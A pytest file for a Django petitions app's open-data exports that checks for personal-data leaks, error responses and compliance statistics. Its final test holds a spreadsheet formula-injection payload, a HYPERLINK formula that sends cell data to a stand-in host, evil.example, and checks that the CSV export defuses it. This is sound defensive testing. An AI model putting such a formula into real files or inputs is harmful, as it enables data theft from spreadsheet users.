import csv
import io
import json

import pytest
from django.test import Client

from hromada.petitions import actions

pytestmark = pytest.mark.django_db


def fetch(client, path):
    response = client.get(path, follow=True)  # the old addresses redirect to the open-data registry
    assert response.status_code == 200, path
    return b"".join(response.streaming_content) if response.streaming else response.content


def fetch_json(client, path):
    return json.loads(fetch(client, path))


@pytest.fixture(autouse=True)
def _no_limits(settings):
    settings.HROMADA_RATE_LIMITS = False


def test_open_data_as_json_and_csv_without_personal_data(world):
    petition = world.collecting()
    people = world.sign(petition, 3)
    actions.petitions_aggregate()
    world.draft()  # private, never exported
    client = Client()
    body = fetch_json(client, "/petitions/open-data/petitions.json")
    assert [row["id"] for row in body["items"]] == [petition.pk]
    assert body["items"][0]["signatures"] == 3 and body["items"][0]["status"] == "threshold_reached"
    text = fetch(client, "/petitions/open-data/petitions.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO("".join(text))))
    assert rows[0]["id"] == str(petition.pk)
    days = fetch_json(client, "/petitions/open-data/counts-by-day.json")["items"]
    assert sum(d["signatures"] for d in days) == 3
    districts = client.get("/petitions/open-data/counts-by-district.csv")
    assert districts.status_code == 301
    assert districts["Location"] == "/opendata/petition-signatures-by-district.csv"
    everything = b"".join(
        fetch(client, f"/petitions/open-data/{name}.{fmt}")
        for name in ("petitions", "counts-by-day", "counts-by-district", "answers", "compliance")
        for fmt in ("json", "csv")
    )
    for person in [*people, petition.author]:
        assert person.full_name.encode() not in everything
        assert person.email.encode() not in everything
    assert client.get("/petitions/open-data/nothing.json").status_code == 404
    assert client.get("/petitions/open-data/petitions.xml").status_code == 404
    assert client.get("/opendata/petitions.xml").status_code == 404
    index = client.get("/petitions/open-data/").json()
    assert {d["dataset"] for d in index["datasets"]} >= {"petitions", "compliance"}


def test_compliance_counts_answers_on_time_late_and_overdue(world):
    import datetime as dt

    from django.utils import timezone

    from hromada.petitions import selectors

    petitions = []
    for _i in range(3):
        p = world.collecting()
        world.sign(p, 3)
        petitions.append(p)
    actions.petitions_aggregate()
    for p in petitions:
        actions.petition_forward(petition=p, actor=world.official)
    actions.petition_answer(
        petition=petitions[0],
        actor=world.official,
        decision="supported",
        text="Підтримано, кошти виділено у бюджеті.",
    )
    rows = {a.kind: c for a, c in selectors.accountability(hromada=world.hromada)}
    assert rows["mayor"].answered_on_time == 1 and rows["mayor"].waiting == 2
    later = timezone.now() + dt.timedelta(days=40)
    rows = {a.kind: c for a, c in selectors.accountability(hromada=world.hromada, now=later)}
    assert rows["mayor"].overdue_now == 2
    compliance = fetch_json(Client(), "/petitions/open-data/compliance.json")["items"]
    assert {r["addressee"] for r in compliance} == {"mayor", "council", "executive_committee"}


def test_a_formula_in_a_title_reaches_the_csv_as_text(world):
    title = '=HYPERLINK("https://evil.example/?"&A1;"Відкрити")'
    petition = world.collecting(title=title)

    text = fetch(Client(), "/petitions/open-data/petitions.csv").decode("utf-8-sig")

    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["id"] == str(petition.pk))
    assert row["title"] == "'" + title
